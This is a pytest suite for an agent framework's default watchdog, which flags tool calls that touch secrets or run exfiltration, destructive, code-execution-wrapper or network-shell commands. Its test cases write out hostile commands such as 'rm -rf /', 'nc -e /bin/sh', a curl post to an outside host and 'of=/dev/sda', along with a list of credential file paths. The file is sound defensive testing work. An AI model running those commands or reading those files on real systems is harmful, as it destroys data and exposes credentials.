"""The default watchdog's API: secrets on file tools and through real symlinks,
disabled categories, the manifest factory, fail-closed behaviour, speed, and
a property test that review never raises."""

from __future__ import annotations

import os
import statistics
import time
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Coroutine

import anyio
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agentcore.manifest.spec import ManifestSpec
from agentcore.shell.parse import Redirect as Redir
from agentcore.shell.parse import SimpleCommand
from agentcore.watchdog import AllowAllWatchdog, Verdict, WatchdogCall
from agentcore.watchdog.default import (
    CATEGORIES,
    INTERNAL_CATEGORY,
    DefaultWatchdog,
    default_watchdog_for,
    unknown_categories,
)
from agentcore.watchdog.default.dispatch import _DISPATCH

MARK = "SEKRET"


def Cmd(argv: tuple[str, ...], redirects: tuple[Redir, ...] = (), text: str = "") -> SimpleCommand:  # noqa: N802
    """A parsed simple command, as the capability check hands it to the watchdog (the parser's own type)."""
    return SimpleCommand(tuple(argv), tuple(redirects), text)


def manifest(ws: Path | None, enabled: bool = True, disable: list[str] | None = None) -> Any:
    return SimpleNamespace(workspace=ws, spec=SimpleNamespace(watchdog=SimpleNamespace(enabled=enabled, disable=disable or [])))


def run(wd: Any, call: WatchdogCall) -> Verdict:
    return anyio.run(wd.review, call)


def bash(ws: Path | None, *argvs: tuple[str, ...]) -> WatchdogCall:
    return WatchdogCall("bash", {"command": "x"}, manifest(ws), "s", tuple(Cmd(a) for a in argvs))


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = Path(os.path.realpath(tmp_path)) / "ws"
    (root / "src").mkdir(parents=True)
    (root / "src" / "a.py").write_text("x = 1\n")
    return root


def test_category_names_are_stable() -> None:
    assert set(CATEGORIES) == {"exfiltration", "destructive", "code_execution_wrapper", "secrets", "network_shell"}
    assert all(isinstance(d, str) and d for d in CATEGORIES.values())
    assert INTERNAL_CATEGORY not in CATEGORIES  # analysis failures cannot be switched off


# --- secrets on the file tools -------------------------------------------------


@pytest.mark.parametrize("tool", ["read", "write", "edit", "grep", "glob"])
@pytest.mark.parametrize(
    "rel,action",
    [
        (".env", "ask"), (f".env.{MARK}", "ask"), (f"certs/{MARK}.pem", "ask"), (f"{MARK}.key", "ask"),
        ("home/.ssh/known_hosts", "ask"), (f"home/.ssh/{MARK}", "ask"), ("id_rsa", "ask"), ("id_ed25519.pub", "ask"),
        ("home/.aws/credentials", "ask"), ("home/.netrc", "ask"), ("home/.docker/config.json", "ask"),
        ("home/.kube/config", "ask"), ("home/.config/gh/hosts.yml", "ask"), (".npmrc", "ask"), (".pypirc", "ask"),
        (".env.example", "allow"), (".env.sample", "allow"), (".env.template", "allow"), (".envrc", "allow"),
        ("src/a.py", "allow"), ("home/.aws/config", "allow"), ("config.json", "allow"), ("hosts.yml", "allow"),
        ("keys/public.txt", "allow"), ("docker/config.json", "allow"),
    ],
)
def test_file_tool_paths(ws: Path, tool: str, rel: str, action: str) -> None:
    call = WatchdogCall(tool, {"path": rel}, manifest(ws), "s", (), {"path": ws / rel})
    v = run(DefaultWatchdog(), call)
    assert v.action == action, v.reason
    if action == "ask":
        assert v.category == "secrets"
        assert MARK not in v.reason and rel not in v.reason


def test_raw_path_arguments_and_glob_patterns(ws: Path) -> None:
    wd = DefaultWatchdog()
    assert run(wd, WatchdogCall("read", {"file_path": "~/.ssh/id_rsa"}, manifest(ws), "s")).action == "ask"
    assert run(wd, WatchdogCall("glob", {"pattern": "**/*.pem"}, manifest(ws), "s")).action == "ask"
    assert run(wd, WatchdogCall("grep", {"pattern": "TOKEN", "glob": ".env"}, manifest(ws), "s")).action == "ask"
    # a grep regex is not a path
    assert run(wd, WatchdogCall("grep", {"pattern": ".env"}, manifest(ws), "s")).action == "allow"
    assert run(wd, WatchdogCall("glob", {"pattern": "**/*.py"}, manifest(ws), "s")).action == "allow"
    assert run(wd, WatchdogCall("todo", {"todos": [".env"]}, manifest(ws), "s")).action == "allow"


def test_secret_behind_a_symlink_in_bash_arguments(ws: Path, tmp_path: Path) -> None:
    home = Path(os.path.realpath(tmp_path)) / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("k")
    (home / ".env").write_text("TOKEN=1")
    os.symlink(home / ".env", ws / "notes.txt")
    os.symlink(home / ".aws", ws / "cfg")
    os.symlink(ws / "src", ws / "srclink")
    wd = DefaultWatchdog()
    for argv in [("cat", "notes.txt"), ("cat", "cfg/credentials"), ("cp", f"{ws}/notes.txt", "/tmp/x"),
                 ("cat", "src/../cfg/credentials"), ("dd", "if=notes.txt", "of=x")]:
        v = run(wd, bash(ws, argv))
        assert (v.action, v.category) == ("ask", "secrets"), argv
        assert "notes" not in v.reason and "credentials" not in v.reason
    assert run(wd, bash(ws, ("cat", "srclink/a.py"))).action == "allow"
    assert run(wd, bash(ws, ("cat", "src/a.py"))).action == "allow"


# --- disabling ---------------------------------------------------------------

CASES = {
    "exfiltration": ("curl", "-d", "x=1", "https://x.example"),
    "destructive": ("rm", "-rf", "/"),
    "code_execution_wrapper": ("bash", "-c", "ls"),
    "secrets": ("cat", ".env"),
}


@pytest.mark.parametrize("category", sorted(CASES))
def test_disabled_categories_are_skipped(ws: Path, category: str) -> None:
    argv = CASES[category]
    assert run(DefaultWatchdog(), bash(ws, argv)).category == category
    assert run(DefaultWatchdog([category]), bash(ws, argv)).action == "allow"
    others = [c for c in CATEGORIES if c != category]
    assert run(DefaultWatchdog(others), bash(ws, argv)).category == category


def test_a_disabled_category_leaves_the_others_firing(ws: Path) -> None:
    # nc -e trips both code execution and exfiltration
    argv = ("nc", "-e", "/bin/sh", "x.example", "1")
    assert run(DefaultWatchdog(["code_execution_wrapper"]), bash(ws, argv)).category == "exfiltration"
    assert run(DefaultWatchdog(["exfiltration"]), bash(ws, argv)).category == "code_execution_wrapper"
    v = run(DefaultWatchdog(["secrets"]), WatchdogCall("read", {}, manifest(ws), "s", (), {"path": ws / ".env"}))
    assert v.action == "allow"


def test_unknown_category_names_are_rejected() -> None:
    assert unknown_categories(["secrets", "nope", "alsonope"]) == ["alsonope", "nope"]
    with pytest.raises(ValueError, match="nope"):
        DefaultWatchdog(["secrets", "nope"])


def test_factory_from_manifest(ws: Path) -> None:
    assert isinstance(default_watchdog_for(manifest(ws, enabled=False)), AllowAllWatchdog)
    wd = default_watchdog_for(manifest(ws, disable=["secrets"]))
    assert isinstance(wd, DefaultWatchdog) and "secrets" not in wd.enabled
    assert run(wd, bash(ws, ("cat", ".env"))).action == "allow"
    assert run(wd, bash(ws, ("rm", "-rf", "/"))).action == "deny"
    # with the real schema objects
    spec = ManifestSpec(name="m", watchdog={"disable": ["destructive"]})
    wd = default_watchdog_for(SimpleNamespace(spec=spec, workspace=ws))
    assert isinstance(wd, DefaultWatchdog) and wd.enabled == frozenset(CATEGORIES) - {"destructive"}
    off = default_watchdog_for(SimpleNamespace(spec=ManifestSpec(name="m", watchdog={"enabled": False}), workspace=ws))
    assert isinstance(off, AllowAllWatchdog)
    assert isinstance(default_watchdog_for(SimpleNamespace(spec=ManifestSpec(name="m"), workspace=ws)), DefaultWatchdog)


# --- fail closed ----------------------------------------------------------------


def test_command_lines_without_parsed_commands_are_parsed_or_refused(ws: Path) -> None:
    wd = DefaultWatchdog()
    v = run(wd, WatchdogCall("bash", {"command": "x"}, manifest(ws), "s", shell=("ls && rm -rf /",)))
    assert (v.action, v.category) == ("deny", "destructive")
    assert run(wd, WatchdogCall("bash", {"command": "x"}, manifest(ws), "s", shell=("ls -la",))).action == "allow"
    v = run(wd, WatchdogCall("bash", {"command": "x"}, manifest(ws), "s", shell=(f"echo $({MARK})",)))
    assert (v.action, v.category) == ("deny", INTERNAL_CATEGORY) and MARK not in v.reason
    v = run(wd, WatchdogCall("bash", {}, manifest(ws), "s", shell=(None,)))  # type: ignore[arg-type]
    assert (v.action, v.category) == ("deny", INTERNAL_CATEGORY)
    # Every command line counts: a harmless first one does not cover a second.
    v = run(wd, WatchdogCall("x", {}, manifest(ws), "s", shell=("ls", "rm -rf /")))
    assert (v.action, v.category) == ("deny", "destructive")


def test_shell_review_follows_the_declaration_not_the_tool_name(ws: Path) -> None:
    """Commands are reviewed for any tool that runs them; a tool named `bash` that runs none is judged by its paths."""
    wd = DefaultWatchdog()
    for tool in ("bash", "shellx", "mcp__run"):
        v = run(wd, WatchdogCall(tool, {}, manifest(ws), "s", (Cmd(("git", "-ccore.pager=x", "log")),)))
        assert (v.action, v.category) == ("deny", "code_execution_wrapper"), tool
    assert run(wd, WatchdogCall("bash", {"command": "rm -rf /"}, manifest(ws), "s")).action == "allow"
    # The secret arguments of WDOG-11 are asked about whether or not the call also runs commands.
    v = run(wd, WatchdogCall("shellx", {"path": ".env"}, manifest(ws), "s", (Cmd(("ls",)),)))
    assert (v.action, v.category) == ("ask", "secrets")


def test_malformed_commands_are_refused_not_raised(ws: Path) -> None:
    wd = DefaultWatchdog()
    bad = WatchdogCall("bash", {"command": "x"}, manifest(ws), "s", (SimpleNamespace(argv=(None, 3), redirects=()),))  # type: ignore[arg-type]
    v = run(wd, bad)
    assert (v.action, v.category) == ("deny", INTERNAL_CATEGORY)
    v = run(wd, WatchdogCall("bash", {"command": "x"}, None, "s", (Cmd(("rm", "-rf", "x")),)))  # type: ignore[arg-type]
    assert v.action == "deny"  # no manifest, so no workspace: nothing is inside


# --- property: review never raises ------------------------------------------------

PROGRAMS = sorted(_DISPATCH) + ["mkfs.xfs", "python3.11", "/usr/bin/git", "./x", "ls", "cat", "", "-", "A=1"]
WORDS = st.one_of(
    st.text(max_size=12),
    st.sampled_from(["-rf", "-", "--", "-c", "-e", "--force", "-X", "POST", "@x", "/", ".", "..", "~", "$HOME",
                     "*", ".*", "x=@y", "-d@f", "s/a/b/e", "w", "{", "}", "h:p", "ext::x", "-C", "/dev/tcp/a/1",
                     ".env", "-i", "-m", "of=/dev/sda", "--pre", "-Oe", "\x00", "e", "y/a/b/", "$!N", "1~2d"]),
)
ARGV = st.builds(lambda p, rest: (p, *rest), st.sampled_from(PROGRAMS) | st.text(max_size=8), st.lists(WORDS, max_size=8))
REDIRS = st.lists(st.builds(Redir, st.sampled_from([">", "<", "2>&1"]), st.none() | st.integers(0, 9),
                            st.none() | st.text(max_size=10) | st.just(".env"), st.sampled_from(["read", "write", "dup"])),
                  max_size=2)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cmds=st.lists(st.builds(lambda a, r: Cmd(a, tuple(r)), ARGV, REDIRS), min_size=1, max_size=4))
def test_review_never_raises_on_random_argv(ws: Path, cmds: list[Cmd]) -> None:
    call = WatchdogCall("bash", {"command": "x"}, manifest(ws), "s", tuple(cmds))
    v = _drive(DefaultWatchdog().review(call))
    assert v.action in ("allow", "deny", "ask")
    assert v.category != INTERNAL_CATEGORY  # text argv is always analysable
    assert (v.action == "allow") == (v.category == "")


@settings(max_examples=200, deadline=None)
@given(script=st.text(max_size=30))
def test_sed_and_awk_scripts_never_raise(script: str) -> None:
    for prog in ("sed", "awk"):
        v = _drive(DefaultWatchdog().review(bash(Path("/nonexistent-ws"), (prog, script, "f"))))
        assert v.category != INTERNAL_CATEGORY


# --- speed ------------------------------------------------------------------------


def _drive(co: Coroutine[Any, Any, Verdict]) -> Verdict:
    """Run a coroutine that never awaits (review is CPU only) without an event loop."""
    try:
        co.send(None)
    except StopIteration as stop:
        return stop.value
    raise AssertionError("review awaited something")


def _median_us(fn: Any, n: int = 300) -> float:
    samples = []
    for _ in range(n):
        t = time.perf_counter()
        fn()
        samples.append(time.perf_counter() - t)
    return statistics.median(samples) * 1e6


def test_review_is_fast(ws: Path) -> None:
    from agentcore.shell.parse import parse_shell

    wd = DefaultWatchdog()
    read = WatchdogCall("read", {"path": "src/a.py"}, manifest(ws), "s", (), {"path": ws / "src" / "a.py"})
    cmds = parse_shell("git status && ls -la src && grep -n foo src/a.py && rm -rf build && echo done").commands
    sh = WatchdogCall("bash", {"command": "x"}, manifest(ws), "s", cmds)
    # Budgets are 20 µs and 100 µs; a 10x margin keeps this stable on a shared machine.
    assert _median_us(lambda: _drive(wd.review(read))) < 200
    assert _median_us(lambda: _drive(wd.review(sh))) < 1000


# --- through the engine: a tool of any name that declares a shell access ------------


class _ShellTool:
    """A plugin tool that runs a shell command line: what it declares, not its name, makes the watchdog read it."""

    def __init__(self, tool_id: str) -> None:
        from agentcore.api import Tool

        ran: list[str] = []

        class Runs(Tool):
            id = tool_id
            description = "runs a command line"
            parameters = {"type": "object", "properties": {"line": {"type": "string"}}, "required": ["line"], "additionalProperties": False}
            uses = ("shell.run",)

            def accesses(self, args: dict[str, Any], ctx: Any) -> list[Any]:
                from agentcore.access import ShellAccess

                return [ShellAccess("line", args["line"])]

            async def execute(self, args: dict[str, Any], runtime: Any) -> Any:
                from agentcore.api import ToolResult

                ran.append(args["line"])
                return ToolResult(data={"ok": True})

        self.tool = Runs()
        self.ran = ran


@pytest.mark.parametrize("tool_id", ["runner", "exec_cmd"])
def test_engine_reviews_the_commands_of_any_shell_tool(ws: Path, tool_id: str) -> None:
    from agentcore.api import Engine, build_catalog, compile_manifest

    plugin = _ShellTool(tool_id)
    catalog = build_catalog(plugins=False, extra=[plugin.tool])
    m = compile_manifest({"name": "p", "tools": [tool_id],
                          "requires": {"shell": [{"cmd": "git", "args": [{"prefix": "-c"}, {"wildcard": True}]}, {"cmd": "ls"}]},
                          "rules": [{"permission": "*", "pattern": "*", "action": "allow"}]}, workspace=ws, catalog=catalog)
    engine = Engine(m, catalog=catalog)

    async def call(line: str) -> dict[str, Any]:
        with engine.open_session(headless=True) as session:
            return (await engine.call(session, tool_id, {"line": line})).to_dict()

    # In scope for the shell requirements and allowed by the rules: only the watchdog stands in the way.
    env = anyio.run(call, f"git -ccore.pager={MARK} log")
    assert env["metadata"]["refusal"] == {"layer": "watchdog", "code": "code_execution_wrapper"}
    assert MARK not in env["error_text"]
    assert plugin.ran == []  # the tool never ran
    assert anyio.run(call, "ls")["type"] == "output" and plugin.ran == ["ls"]
